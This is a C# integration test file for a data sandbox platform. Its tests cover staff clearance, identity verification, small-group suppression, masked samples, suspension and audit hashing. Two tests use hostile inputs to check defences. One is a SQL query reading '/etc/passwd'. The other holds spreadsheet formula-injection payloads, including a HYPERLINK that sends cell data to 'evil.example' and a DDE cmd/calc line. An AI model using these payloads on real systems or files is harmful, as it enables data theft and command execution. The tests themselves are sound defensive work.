using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Azure.Data.Tables;
using Azure.Storage.Blobs;
using Platform.Adapters.Sandbox;
using Platform.Domain.Audit;
using Platform.Domain.Sandbox;
using Platform.Domain.Security;
using Platform.IntegrationTests.Infrastructure;
using Platform.IntegrationTests.Sandbox;
using Xunit;
using static Platform.IntegrationTests.EndToEnd.SandboxScenario;

namespace Platform.IntegrationTests.EndToEnd;

/// <summary>
/// Sandbox jobs (M4.4 "data usable but not visible", M5.1, M5.5) through HTTP on the local host, over a grant
/// obtained through the public API and run by the <c>sandbox-jobs</c> worker.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class SandboxEndToEndTests(PlatformHostFixture platform)
{
    private static readonly SemaphoreSlim SetupLock = new(1, 1);
    private static (string Host, SandboxSetup Setup)? _shared;

    [Fact]
    public async Task Submit_StaffNotYetFiledNorUnderNda_403PersonnelNotCleared()
    {
        var setup = await SharedAsync();
        using var owner = platform.Client(Roles.Operator, setup.OperatorId);
        var newcomer = await RegisterStaffAsync(owner, setup.OperatorId);
        using var staff = StaffClient(platform, setup, newcomer);

        var response = await SubmitAsync(staff, setup, "full", $"SELECT count(*) FROM {setup.TableName}");

        var problem = await FoundationEndToEndTests.AssertProblemAsync(response, HttpStatusCode.Forbidden, "personnel.not_cleared");
        Assert.True(problem.GetProperty("errors").TryGetProperty("nda", out _));
    }

    [Fact]
    public async Task Submit_StaffFiledUnderNdaButNotVerified_403UntilTheAuthorityVerifies()
    {
        var setup = await SharedAsync();
        using var owner = platform.Client(Roles.Operator, setup.OperatorId);
        using var authority = platform.Client(Roles.Authority, "org-authority");
        var (newcomer, _) = await FiledUnderNdaAsync(authority, owner, setup.OperatorId);
        using var staff = StaffClient(platform, setup, newcomer);
        var sql = $"SELECT district, count(*) AS people FROM {setup.TableName} GROUP BY district";

        var unverified = await SubmitAsync(staff, setup, "full", sql);
        var noEvidence = await authority.PostAsJsonAsync($"/api/personnel/{newcomer}/identity-verification", new { method = "in-person" });
        var byOperator = await owner.PostAsJsonAsync($"/api/personnel/{newcomer}/identity-verification", new { documentRef = "自查", method = "other" });
        var verified = await authority.PostAsJsonAsync($"/api/personnel/{newcomer}/identity-verification", new { documentRef = "政务服务网实名核验 EGOV-2026-118", method = "e-government" });
        var afterVerification = await SubmitAsync(staff, setup, "full", sql);

        // M4.4: identity verification is a step of its own; the ID number's checksum at registration is not one.
        var problem = await FoundationEndToEndTests.AssertProblemAsync(unverified, HttpStatusCode.Forbidden, "personnel.not_cleared");
        Assert.Equal(["identityVerified"], problem.GetProperty("errors").EnumerateObject().Select(e => e.Name));
        await FoundationEndToEndTests.AssertProblemAsync(noEvidence, HttpStatusCode.UnprocessableEntity, "personnel.invalid");
        await FoundationEndToEndTests.AssertProblemAsync(byOperator, HttpStatusCode.Forbidden, "auth.forbidden_role");
        var record = await verified.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(("e-government", "政务服务网实名核验 EGOV-2026-118"),
            (record.GetProperty("verification").GetProperty("method").GetString(), record.GetProperty("verification").GetProperty("documentRef").GetString()));
        Assert.True(afterVerification.StatusCode == HttpStatusCode.Accepted, await afterVerification.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Submit_SignedInWithIdentityProviderTokenForTheSameIdNumber_VerifiedAutomatically()
    {
        var setup = await SharedAsync();
        using var owner = platform.Client(Roles.Operator, setup.OperatorId);
        using var authority = platform.Client(Roles.Authority, "org-authority");
        var (newcomer, idNumber) = await FiledUnderNdaAsync(authority, owner, setup.OperatorId);
        var sql = $"SELECT district, count(*) AS people FROM {setup.TableName} GROUP BY district";
        using var otherPerson = platform.Client();
        otherPerson.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", platform.IdentityProviderToken(setup.OperatorId, newcomer, TestIdNumbers.New()));
        using var notVerified = platform.Client();
        notVerified.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", platform.IdentityProviderToken(setup.OperatorId, newcomer, idNumber, verified: false));
        using var signedIn = platform.Client();
        signedIn.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", platform.IdentityProviderToken(setup.OperatorId, newcomer, idNumber));

        var wrongPerson = await SubmitAsync(otherPerson, setup, "full", sql);
        var unverifiedClaim = await SubmitAsync(notVerified, setup, "full", sql);
        var accepted = await SubmitAsync(signedIn, setup, "full", sql);

        await FoundationEndToEndTests.AssertProblemAsync(wrongPerson, HttpStatusCode.Forbidden, "personnel.not_cleared");
        await FoundationEndToEndTests.AssertProblemAsync(unverifiedClaim, HttpStatusCode.Forbidden, "personnel.not_cleared");
        Assert.True(accepted.StatusCode == HttpStatusCode.Accepted, await accepted.Content.ReadAsStringAsync());
        var record = await authority.GetFromJsonAsync<JsonElement>($"/api/personnel/{newcomer}");
        Assert.True(record.GetProperty("identityVerified").GetBoolean());
        Assert.Equal("identity-provider", record.GetProperty("verification").GetProperty("method").GetString());
        Assert.DoesNotContain(idNumber, record.GetRawText(), StringComparison.Ordinal);
    }

    /// <summary>A staff member filed by the authority and under NDA whose identity is not yet verified; returns its id and ID number.</summary>
    private static async Task<(string Id, string IdNumber)> FiledUnderNdaAsync(HttpClient authority, HttpClient owner, string operatorId)
    {
        var idNumber = TestIdNumbers.New();
        var created = await owner.PostAsJsonAsync("/api/personnel", new { name = "王磊", idNumber, orgId = operatorId });
        Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());
        var id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString()!;
        Assert.True((await authority.PostAsJsonAsync($"/api/personnel/{id}/filing", new { decision = "approve", comment = "同意备案" })).IsSuccessStatusCode);
        Assert.True((await owner.PostAsJsonAsync($"/api/personnel/{id}/nda", new { documentRef = "保密协议 BM-2026-090", signedOn = PlatformScenario.TodayCst.ToString("yyyy-MM-dd") })).IsSuccessStatusCode);
        return (id, idNumber);
    }

    [Fact]
    public async Task Submit_OperatorRoleOrBadBody_403And400()
    {
        var setup = await SharedAsync();
        using var owner = platform.Client(Roles.Operator, setup.OperatorId);
        using var staff = StaffClient(platform, setup);

        var byOperator = await SubmitAsync(owner, setup, "full", "SELECT 1");
        var badMode = await staff.PostAsJsonAsync("/api/sandbox/jobs", new { grantId = setup.GrantId, mode = "everything", sql = "" });
        var unknownGrant = await staff.PostAsJsonAsync("/api/sandbox/jobs", new { grantId = "grt-01jd8x3kq7m4r6t9v2w5y8z1ab", mode = "full", sql = "SELECT 1" });

        await FoundationEndToEndTests.AssertProblemAsync(byOperator, HttpStatusCode.Forbidden, "auth.forbidden_role");
        var invalid = await FoundationEndToEndTests.AssertProblemAsync(badMode, HttpStatusCode.BadRequest, "sandbox.invalid_job");
        Assert.Equal(["mode", "sql"], invalid.GetProperty("errors").EnumerateObject().Select(e => e.Name).Order(StringComparer.Ordinal));
        await FoundationEndToEndTests.AssertProblemAsync(unknownGrant, HttpStatusCode.NotFound, "grant.not_found");
    }

    [Fact]
    public async Task FullAggregate_GroupUnderKSuppressed_ReleasedRowsMatchADirectComputationAndTheAuditedHash()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);
        var sql = $"SELECT district, count(*) AS people, sum(age) AS total_age, avg(age) AS mean_age FROM {setup.TableName} GROUP BY district ORDER BY district";

        var job = await RunAsync(staff, setup, "full", sql);

        Assert.Equal("released", job.GetProperty("status").GetString());
        var checks = job.GetProperty("checks");
        Assert.True(checks.GetProperty("passed").GetBoolean());
        Assert.Equal((10, 1L, 2L), (checks.GetProperty("minRecordsPerRow").GetInt32(), checks.GetProperty("suppressedRows").GetInt64(), checks.GetProperty("releasedRows").GetInt64()));
        Assert.Equal(2, job.GetProperty("rowCount").GetInt64());
        Assert.Equal("library", job.GetProperty("tables")[0].GetProperty("source").GetString());

        using var csvRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
        csvRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        var csvResponse = await staff.SendAsync(csvRequest);
        Assert.Equal(HttpStatusCode.OK, csvResponse.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", csvResponse.Content.Headers.ContentType!.ToString());
        var bytes = await csvResponse.Content.ReadAsByteArrayAsync();
        var hash = Convert.ToHexStringLower(SHA256.HashData(bytes));
        Assert.Equal(job.GetProperty("resultHash").GetString(), hash);
        Assert.Equal($"\"{hash}\"", csvResponse.Headers.ETag!.Tag);

        var lines = Encoding.UTF8.GetString(bytes).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("district,people,total_age,mean_age", lines[0]);
        var released = lines.Skip(1).Select(line => line.Split(',')).ToDictionary(cells => cells[0]);
        var expected = setup.People.GroupBy(p => p.District).Where(g => g.Count() >= 10).ToDictionary(g => g.Key);
        Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), released.Keys.Order(StringComparer.Ordinal));
        foreach (var (district, group) in expected)
        {
            var cells = released[district];
            // Issue 14: counts are released rounded to base 5.
            Assert.Equal(DisclosureControl.Round(group.Count(), 5).ToString(CultureInfo.InvariantCulture), cells[1]);
            Assert.Equal(group.Sum(p => p.Age).ToString(CultureInfo.InvariantCulture), cells[2]);
            Assert.Equal(group.Average(p => p.Age), double.Parse(cells[3], CultureInfo.InvariantCulture), 9);
        }

        using var jsonRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
        jsonRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/json"));
        var jsonResponse = await staff.SendAsync(jsonRequest);
        Assert.Equal("application/json", jsonResponse.Content.Headers.ContentType!.MediaType);
        var json = await jsonResponse.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(2, json.GetProperty("rowCount").GetInt64());
        Assert.Equal(hash, json.GetProperty("resultHash").GetString());
        Assert.Equal(["district", "people", "total_age", "mean_age"], json.GetProperty("columns").EnumerateArray().Select(c => c.GetProperty("name").GetString()));

        // The same rows as Parquet, typed as the engine typed them; asked for by Accept or by ?format=parquet.
        using var parquetRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
        parquetRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/vnd.apache.parquet"));
        var parquetResponse = await staff.SendAsync(parquetRequest);
        Assert.Equal(HttpStatusCode.OK, parquetResponse.StatusCode);
        Assert.Equal("application/vnd.apache.parquet", parquetResponse.Content.Headers.ContentType!.MediaType);
        var parquetBytes = await parquetResponse.Content.ReadAsByteArrayAsync();
        Assert.Equal($"\"{Convert.ToHexStringLower(SHA256.HashData(parquetBytes))}\"", parquetResponse.Headers.ETag!.Tag);
        Assert.Equal(parquetBytes, await staff.GetByteArrayAsync($"{job.GetProperty("result").GetString()}?format=parquet"));
        var parquetFile = Path.Combine(Path.GetTempPath(), $"sandbox-e2e-{Guid.NewGuid():N}.parquet");
        try
        {
            await File.WriteAllBytesAsync(parquetFile, parquetBytes);
            var (parquetColumns, parquetRows, footerHash) = await BlobSandboxResultStoreTests.ReadParquetAsync(parquetFile);
            // sum() of integers is a 128-bit integer in the engine; Parquet gets a 64-bit one when the values fit.
            Assert.Equal([("district", "VARCHAR"), ("people", "BIGINT"), ("total_age", "BIGINT"), ("mean_age", "DOUBLE")], parquetColumns);
            Assert.Equal(hash, footerHash);
            var parquetByDistrict = parquetRows.Select(row => row.Split('|')).ToDictionary(cells => cells[0]);
            foreach (var (district, group) in expected)
            {
                Assert.Equal((DisclosureControl.Round(group.Count(), 5).ToString(CultureInfo.InvariantCulture), group.Sum(p => p.Age).ToString(CultureInfo.InvariantCulture)), (parquetByDistrict[district][1], parquetByDistrict[district][2]));
                Assert.Equal(group.Average(p => p.Age), double.Parse(parquetByDistrict[district][3], CultureInfo.InvariantCulture), 9);
            }
        }
        finally
        {
            File.Delete(parquetFile);
        }

        await AssertAuditedAsync(job.GetProperty("id").GetString()!, setup, hash);
    }

    [Fact]
    public async Task FullPersonalFieldOutput_WithheldWithTheRuleAndResultRoute409()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);

        var job = await RunAsync(staff, setup, "full", $"SELECT name FROM {setup.TableName}");

        Assert.Equal(("withheld", "sandbox.output_withheld"), (job.GetProperty("status").GetString(), job.GetProperty("code").GetString()));
        Assert.Contains("personal_field_unaggregated", job.GetProperty("checks").GetProperty("failedRules").EnumerateArray().Select(r => r.GetString()));
        Assert.False(job.TryGetProperty("resultHash", out var hash) && hash.ValueKind == JsonValueKind.String);
        var result = await staff.GetAsync($"/api/sandbox/jobs/{job.GetProperty("id").GetString()}/result");
        var problem = await FoundationEndToEndTests.AssertProblemAsync(result, HttpStatusCode.Conflict, "sandbox.result_withheld");
        Assert.True(problem.GetProperty("errors").TryGetProperty("personal_field_unaggregated", out _));
        Assert.All(setup.People, person => Assert.DoesNotContain(person.Name, job.ToString(), StringComparison.Ordinal));
        // A withheld result has no Parquet either: refused on the route and never written.
        var parquet = await staff.GetAsync($"/api/sandbox/jobs/{job.GetProperty("id").GetString()}/result?format=parquet");
        await FoundationEndToEndTests.AssertProblemAsync(parquet, HttpStatusCode.Conflict, "sandbox.result_withheld");
        var results = new BlobServiceClient(platform.StorageConnectionString).GetBlobContainerClient(BlobSandboxResultStore.ContainerName);
        Assert.False(await results.GetBlobClient(BlobSandboxResultStore.ParquetName(job.GetProperty("id").GetString()!)).ExistsAsync());
    }

    [Fact]
    public async Task SampleMode_RowsReturnedDirectlyFromTheMaskedSample()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);

        var job = await RunAsync(staff, setup, "sample", $"SELECT name, district, age FROM {setup.TableName}");

        Assert.Equal("released", job.GetProperty("status").GetString());
        Assert.Equal(("sample", setup.SampleJobId), (job.GetProperty("tables")[0].GetProperty("source").GetString(), job.GetProperty("tables")[0].GetProperty("sampleJobId").GetString()));
        var csv = await staff.GetStringAsync(job.GetProperty("result").GetString());
        var rows = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.Split(',')).ToList();
        Assert.Equal(setup.People.Count, rows.Count);
        Assert.Equal(setup.People.Select(p => p.District).Order(StringComparer.Ordinal), rows.Select(r => r[1]).Order(StringComparer.Ordinal));
        Assert.All(setup.People, person => Assert.DoesNotContain(person.Name, csv, StringComparison.Ordinal));
        Assert.All(rows, row => Assert.Contains('*', row[0]));
    }

    [Fact]
    public async Task ReadingAFile_RefusedAndNothingReleased()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);

        var job = await RunAsync(staff, setup, "full", "SELECT * FROM read_csv('/etc/passwd')");

        Assert.Equal(("refused", "sandbox.statement_refused"), (job.GetProperty("status").GetString(), job.GetProperty("code").GetString()));
        var result = await staff.GetAsync($"/api/sandbox/jobs/{job.GetProperty("id").GetString()}/result");
        await FoundationEndToEndTests.AssertProblemAsync(result, HttpStatusCode.Conflict, "sandbox.result_withheld");
    }

    [Fact]
    public async Task GetJob_SubmitterItsOperatorAndAuthoritySeeIt_OthersTold404()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);
        var submitted = await SubmitAsync(staff, setup, "sample", $"SELECT count(*) AS n FROM {setup.TableName}");
        var url = submitted.Headers.Location!.ToString();
        using var owner = platform.Client(Roles.Operator, setup.OperatorId);
        using var authority = platform.Client(Roles.Authority, "org-authority");
        using var otherOperator = platform.Client(Roles.Operator, "org-01jd8x3kq7m4r6t9v2w5y8z1ab");
        using var provider = platform.Client(Roles.Provider, setup.ProviderId);

        Assert.Equal(HttpStatusCode.Accepted, submitted.StatusCode);
        Assert.Matches("^/api/sandbox/jobs/sbx-", url);
        Assert.Equal(HttpStatusCode.OK, (await owner.GetAsync(url)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await authority.GetAsync(url)).StatusCode);
        await FoundationEndToEndTests.AssertProblemAsync(await otherOperator.GetAsync(url), HttpStatusCode.NotFound, "sandbox.job_not_found");
        await FoundationEndToEndTests.AssertProblemAsync(await provider.GetAsync(url), HttpStatusCode.Forbidden, "auth.forbidden_role");
        var finished = await WaitForEndAsync(staff, url);
        Assert.Equal("released", finished.GetProperty("status").GetString());
    }

    [Fact]
    public async Task LongSql_KeptWholeOnTheJobRecord()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);
        var excluded = string.Join(", ", Enumerable.Range(0, 4000).Select(i => $"'区{i:D5}'"));
        var sql = $"SELECT count(*) AS people FROM {setup.TableName} WHERE district NOT IN ({excluded})";
        Assert.True(sql.Length > 40_000);

        var job = await RunAsync(staff, setup, "sample", sql);

        Assert.Equal(sql, job.GetProperty("sql").GetString());
        Assert.Equal("released", job.GetProperty("status").GetString());
    }

    [Fact]
    public async Task Suspension_RunningJobStoppedNewJobsRefusedUntilLifted()
    {
        // An operator of its own: the suspension must not touch the other tests' grant.
        var setup = await GrantedAsync(platform);
        using var staff = StaffClient(platform, setup);
        using var authority = platform.Client(Roles.Authority, "org-authority");
        var aliases = string.Join(", ", Enumerable.Range(0, 9).Select(i => $"{setup.TableName} a{i}"));
        var sum = string.Join(" + ", Enumerable.Range(0, 9).Select(i => $"a{i}.age"));
        var submitted = await SubmitAsync(staff, setup, "sample", $"SELECT count(*) AS n FROM {aliases} WHERE {sum} > 0");
        Assert.Equal(HttpStatusCode.Accepted, submitted.StatusCode);
        var url = submitted.Headers.Location!.ToString();
        var jobId = url[(url.LastIndexOf('/') + 1)..];
        await PlatformScenario.PollAsync(staff, url, j => j.GetProperty("status").GetString() == "running", TimeSpan.FromSeconds(60));
        await Task.Delay(TimeSpan.FromSeconds(1));

        var suspendedAt = DateTime.UtcNow;
        var suspended = await authority.PostAsJsonAsync($"/api/operators/{setup.OperatorId}/suspension", new { reason = "发现数据违规使用，暂停运营待查" });

        Assert.Equal(HttpStatusCode.OK, suspended.StatusCode);
        Assert.Contains("sandbox-jobs: 1 job(s) stopped", (await suspended.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("stopped").EnumerateArray().Select(s => s.GetString()));
        var cancelled = await staff.GetFromJsonAsync<JsonElement>(url);
        Assert.Equal(("cancelled", "sandbox.cancelled"), (cancelled.GetProperty("status").GetString(), cancelled.GetProperty("code").GetString()));
        // The worker interrupts the engine well before the job's 30 s time limit and records the outcome.
        await WaitForAuditAsync(jobId, "sandbox.job_finished", TimeSpan.FromSeconds(15));
        Assert.True(DateTime.UtcNow - suspendedAt < TimeSpan.FromSeconds(20));
        var refused = await SubmitAsync(staff, setup, "sample", $"SELECT count(*) AS n FROM {setup.TableName}");
        await FoundationEndToEndTests.AssertProblemAsync(refused, HttpStatusCode.Forbidden, "operator.suspended");

        var lifted = await authority.DeleteAsync($"/api/operators/{setup.OperatorId}/suspension?note={Uri.EscapeDataString("整改完成")}");
        Assert.Equal(HttpStatusCode.OK, lifted.StatusCode);
        var after = await RunAsync(staff, setup, "sample", $"SELECT count(*) AS n FROM {setup.TableName}");
        Assert.Equal("released", after.GetProperty("status").GetString());
        Assert.Equal("cancelled", (await staff.GetFromJsonAsync<JsonElement>(url)).GetProperty("status").GetString());
    }

    /// <summary>
    /// Issue 20 item 7: a result cell a spreadsheet would run as a formula (=, +, -, @) comes back in the CSV quoted with a
    /// leading apostrophe, as the disclosure CSV does; the JSON form keeps the exact values, and numbers stay numbers.
    /// </summary>
    [Fact]
    public async Task ResultCsv_FormulaCells_NeutralisedWhileJsonKeepsThemExact()
    {
        var setup = await SharedAsync();
        using var staff = StaffClient(platform, setup);
        var sql = $"SELECT '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")' AS link, '+1+cmd|'' /C calc''!A0' AS dde, '-2+3' AS minus, '@SUM(A1:A9)' AS at, -5 AS n, district FROM {setup.TableName} LIMIT 3";

        var job = await RunAsync(staff, setup, "sample", sql);

        Assert.True(job.GetProperty("status").GetString() == "released", job.ToString());
        using var csvRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
        csvRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        var csvResponse = await staff.SendAsync(csvRequest);
        var bytes = await csvResponse.Content.ReadAsByteArrayAsync();
        Assert.Equal(job.GetProperty("resultHash").GetString(), Convert.ToHexStringLower(SHA256.HashData(bytes)));
        var lines = Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(4, lines.Length);
        Assert.All(lines.Skip(1), line => Assert.StartsWith(
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点此\"\")\",\"'+1+cmd|' /C calc'!A0\",\"'-2+3\",\"'@SUM(A1:A9)\",-5,", line, StringComparison.Ordinal));

        using var jsonRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
        jsonRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/json"));
        var json = await (await staff.SendAsync(jsonRequest)).Content.ReadFromJsonAsync<JsonElement>();
        var first = json.GetProperty("rows")[0];
        Assert.Equal("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")", first[0].GetString());
        Assert.Equal("+1+cmd|' /C calc'!A0", first[1].GetString());
        Assert.Equal("-2+3", first[2].GetString());
        Assert.Equal("@SUM(A1:A9)", first[3].GetString());
    }

    private async Task<SandboxSetup> SharedAsync()
    {
        await SetupLock.WaitAsync();
        try
        {
            if (_shared is not { } shared || shared.Host != platform.Host.BaseUrl)
            {
                _shared = shared = (platform.Host.BaseUrl, await GrantedAsync(platform));
            }

            return shared.Setup;
        }
        finally
        {
            SetupLock.Release();
        }
    }

    /// <summary>
    /// The audit log holds the job's submission and its outcome, by the staff member; the outcome's payload hash is the hash
    /// of the outcome built from the job record (SQL, grant, tables, check outcome), whose result hash is that of the bytes served.
    /// </summary>
    private async Task AssertAuditedAsync(string jobId, SandboxSetup setup, string resultHash)
    {
        var finished = await WaitForAuditAsync(jobId, "sandbox.job_finished", TimeSpan.FromSeconds(15));
        var entries = await AuditOfAsync(jobId);
        Assert.Contains(entries, e => e.GetProperty("action").GetString() == "sandbox.job_submitted");
        Assert.Equal((setup.StaffId, "personnel", setup.OperatorId),
            (finished.GetProperty("actor").GetString(), finished.GetProperty("role").GetString(), finished.GetProperty("organization").GetString()));

        var store = new TableSandboxJobStore(new TableServiceClient(platform.StorageConnectionString));
        var record = (await store.GetAsync(jobId))!.Value;
        var outcome = SandboxJobOutcome.From(record);
        Assert.Equal((resultHash, setup.GrantId), (outcome.ResultHash, outcome.GrantId));
        Assert.Equal(AuditChain.HashPayload(outcome), finished.GetProperty("payloadHash").GetString());
    }

    private async Task<JsonElement> WaitForAuditAsync(string jobId, string action, TimeSpan timeout)
    {
        var deadline = DateTime.UtcNow + timeout;
        while (true)
        {
            var entry = (await AuditOfAsync(jobId)).FirstOrDefault(e => e.GetProperty("action").GetString() == action);
            if (entry.ValueKind == JsonValueKind.Object)
            {
                return entry;
            }

            if (DateTime.UtcNow > deadline)
            {
                throw new TimeoutException($"No {action} audit entry for sandbox job {jobId} within {timeout}.");
            }

            await Task.Delay(300);
        }
    }

    private async Task<List<JsonElement>> AuditOfAsync(string jobId)
    {
        using var supervisor = platform.Client(Roles.Supervisor, "org-supervisor");
        var page = await supervisor.GetFromJsonAsync<JsonElement>($"/api/audit?target={Uri.EscapeDataString($"sandbox/jobs/{jobId}")}&pageSize=100");
        return page.GetProperty("items").EnumerateArray().ToList();
    }
}
